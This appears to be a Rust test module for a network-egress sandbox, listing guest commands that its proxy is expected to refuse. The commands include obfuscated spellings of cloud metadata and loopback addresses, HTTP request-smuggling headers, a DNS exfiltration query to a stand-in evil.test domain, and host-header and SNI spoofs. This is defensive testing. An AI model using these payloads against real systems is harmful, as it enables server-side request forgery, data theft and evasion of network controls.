//! Attempts with the guest's own programs, one row each, with the expected record.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

/// Shell functions for the attempts.
pub(super) const FUNCTIONS: &str = r#"
# Connects and prints the response.
reach() { line "$1" "$2" "GET / HTTP/1.0"; }
# Sends text to the forward proxy and prints the first line of the response.
say() {
    exec 3<>/dev/tcp/172.31.0.1/3128 || return
    printf %b "$1" >&3
    timeout 20 head -n 1 <&3
}
ask() { say "CONNECT $1 HTTP/1.1\r\nHost: $1\r\n\r\n"; }
post() { say "POST http://web.test/ HTTP/1.1\r\nHost: web.test\r\n$1"; }
query() {
    exec 3<>"/dev/udp/$1/53" || return
    printf '\0\1\1\0\0\1\0\0\0\0\0\0\4evil\4test\0\0\1\0\1' >&3
    timeout 5 head -c 12 <&3 | od -An -tx1
}
at() { getent ahostsv4 "$1" | sed -n 's/ .*//p;q'; }
"#;

/// The sign by which an attempt shows that it failed.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Sign {
    /// The proxy responds with 400, 403, or 502.
    Status,
    /// The connection is refused or reset, or the response names the refusing side.
    Closed,
    /// The program fails.
    Fails,
}

/// An attempt.
pub(super) struct Row {
    /// The shell command in the guest, which is also the name of its probe.
    pub(super) command: String,
    pub(super) sign: Sign,
    /// The line `VIA HOST:PORT VERDICT CAUSE` of the record, or one of several.
    pub(super) recorded: Vec<String>,
    /// The destination, if it is not the forward proxy or the stub.
    pub(super) original: Option<String>,
    /// A part of the line's detail.
    pub(super) detail: &'static str,
}

impl Row {
    fn new(command: String, sign: Sign, recorded: String) -> Self {
        Self { command, sign, recorded: vec![recorded], original: None, detail: "" }
    }

    /// Returns a connection to an address; the record contains one of these causes.
    fn to(address: impl std::fmt::Display, port: u16, lines: &[&str]) -> Self {
        let recorded = lines.iter().map(|line| {
            let (via, cause) = line.split_once(' ').unwrap();
            format!("{via} {address}:{port} refused {cause}")
        });
        Self {
            recorded: recorded.collect(),
            original: Some(format!("{address}:{port}")),
            ..Self::new(format!("reach {address} {port}"), Sign::Closed, String::new())
        }
    }
}

/// Spellings of forbidden addresses for the forward proxy, and the causes.
const TARGETS: [(&str, &str); 23] = [
    ("169.254.169.254:80", "address"),
    ("2852039166:80", "host"),
    ("0xa9fea9fe:80", "host"),
    ("0xa9.0xfe.0xa9.0xfe:80", "host"),
    ("0251.0376.0251.0376:80", "host"),
    ("169.16689662:80", "host"),
    ("169.254.169.254.:80", "host"),
    ("[::ffff:169.254.169.254]:80", "address"),
    ("[64:ff9b::a9fe:a9fe]:80", "address"),
    ("[2002:a9fe:a9fe::1]:80", "address"),
    ("[fd00:ec2::254]:80", "address"),
    ("[fe80::1]:80", "address"),
    ("168.63.129.16:80", "address"),
    ("100.100.100.200:80", "address"),
    ("127.0.0.1:22", "address"),
    ("127.1:22", "host"),
    ("0:22", "host"),
    ("0.0.0.0:22", "address"),
    ("[::1]:22", "address"),
    ("[::]:22", "address"),
    ("10.0.0.1:443", "address"),
    ("web%2etest:443", "host"),
    ("172.31.0.1:3128", "address"),
];

/// Addresses that are forbidden in every mode, and the causes.
const ADDRESSES: [(&str, &str); 13] = [
    ("169.254.169.254", "address"),
    ("169.254.170.2", "address"),
    ("168.63.129.16", "address"),
    ("100.100.100.200", "address"),
    ("10.0.0.1", "address"),
    ("172.16.0.1", "address"),
    ("192.168.1.1", "address"),
    ("100.64.0.1", "address"),
    ("172.31.0.1", "address"),
    ("172.31.0.9", "address"),
    ("0.1.2.3", "address"),
    ("198.19.99.99", "unknown-synthetic"),
    ("240.0.0.1", "address"),
];

/// Ambiguous requests after a valid head, and the causes in the record.
const SMUGGLED: [(&str, &str); 7] = [
    (
        r"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "both Content-Length and Transfer-Encoding",
    ),
    (r"Content-Length: 0\r\nContent-Length: 4\r\n\r\nabcd", "Content-Length"),
    (r"Transfer-Encoding: x, chunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding"),
    (r"X: a\r\n b\r\n\r\n", "folded"),
    (r"X: a\nContent-Length: 4\r\n\r\n", "line"),
    (r"Content-Length : 4\r\n\r\nabcd", "header"),
    (r"Host: evil.test\r\n\r\n", "Host"),
];

/// Returns the attempts that are refused in every mode. `ports` are those of servers on the host's
/// addresses.
pub(super) fn absolute(mode: &str, hosts: &[Ipv4Addr], ports: &BTreeSet<u16>) -> Vec<Row> {
    let mut rows = Vec::new();
    for (target, cause) in TARGETS {
        let line = format!("proxy {target} refused {cause}");
        rows.push(Row::new(format!("ask {target}"), Sign::Status, line));
    }
    let user = "proxy …@127.0.0.1:22 refused host".to_owned();
    rows.push(Row::new("ask web.test@127.0.0.1:22".into(), Sign::Status, user));
    // Not a public name, so a mode that allows all public names does not allow it.
    let cause = if mode == "open" { "special-name" } else { "no-rule" };
    let line = format!("proxy localhost:22 refused {cause}");
    rows.push(Row::new("ask localhost:22".into(), Sign::Status, line));
    for (address, cause) in ADDRESSES {
        rows.push(Row::to(address, 80, &[&format!("transparent {cause}")]));
    }
    for host in hosts {
        for port in ports {
            // The cause depends on the address and on whether a rule names the port.
            let causes = ["packet closed-port", "transparent address", "transparent literal"];
            rows.push(Row::to(host, *port, &causes));
        }
        let target = format!("{host}:{}", ports.first().unwrap());
        let recorded =
            ["address", "literal"].map(|cause| format!("proxy {target} refused {cause}"));
        let row = Row::new(format!("ask {target}"), Sign::Status, String::new());
        rows.push(Row { recorded: recorded.into(), ..row });
    }
    for server in ["8.8.8.8", "169.254.169.253", "172.31.0.9"] {
        let line = format!("packet {server}:53 refused protocol");
        let row = Row::new(format!("query {server}"), Sign::Closed, line);
        rows.push(Row { original: Some(format!("{server}:53")), ..row });
    }
    for (rest, detail) in SMUGGLED {
        let line = "proxy 172.31.0.1:3128 refused request".to_owned();
        rows.push(Row { detail, ..Row::new(format!("post '{rest}'"), Sign::Status, line) });
    }
    let unlike = r"say 'GET http://web.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n'";
    let line = "proxy web.test:80 refused host-mismatch".to_owned();
    rows.push(Row::new(unlike.into(), Sign::Status, line));
    rows
}

/// Returns the attempts that are refused if rules allow only `web.test`, on ports 80 and 443.
pub(super) fn by_rule() -> Vec<Row> {
    let row = |command: &str, sign, line: &str| Row::new(command.into(), sign, line.into());
    let long = "a".repeat(60);
    let exfiltrated = format!("{long}.{long}.{long}.evil.test");
    let closed = ["packet closed-port"];
    vec![
        Row::to("8.8.8.8", 53, &closed),
        Row::to("8.8.8.8", 853, &closed),
        Row::to("172.31.0.1", 22, &closed),
        Row::to("192.0.32.8", 22, &closed),
        Row::to("192.0.32.8", 80, &["transparent literal"]),
        Row::to("192.0.32.8", 443, &["transparent literal"]),
        row("ask 192.0.32.8:443", Sign::Status, "proxy 192.0.32.8:443 refused literal"),
        row("ask web.test:22", Sign::Status, "proxy web.test:22 refused port"),
        row("ask web.test.:22", Sign::Status, "proxy web.test:22 refused port"),
        row("ask dns.test:443", Sign::Status, "proxy dns.test:443 refused no-rule"),
        row(
            "ask web.test.evil.test:443",
            Sign::Status,
            "proxy web.test.evil.test:443 refused no-rule",
        ),
        row("ask xn--wb-bja.test:443", Sign::Status, "proxy xn--wb-bja.test:443 refused no-rule"),
        row("getent ahosts evil.test", Sign::Fails, "dns evil.test:0 refused no-rule"),
        row("getent ahosts xn--wb-bja.test", Sign::Fails, "dns xn--wb-bja.test:0 refused no-rule"),
        row(
            &format!("getent ahosts {exfiltrated}"),
            Sign::Fails,
            &format!("dns {exfiltrated}:0 refused no-rule"),
        ),
        row(
            "direct -k https://$(at web.test)/",
            Sign::Fails,
            "transparent web.test:443 refused sni-missing",
        ),
        row(
            "direct -k --connect-to evil.test:443:web.test:443 https://evil.test/",
            Sign::Fails,
            "transparent web.test:443 refused sni-mismatch",
        ),
        row("direct http://web.test:443/", Sign::Fails, "transparent web.test:443 refused not-tls"),
        row(
            "direct -f -H 'Host: evil.test' http://web.test/",
            Sign::Fails,
            "transparent web.test:80 refused host-mismatch",
        ),
    ]
}
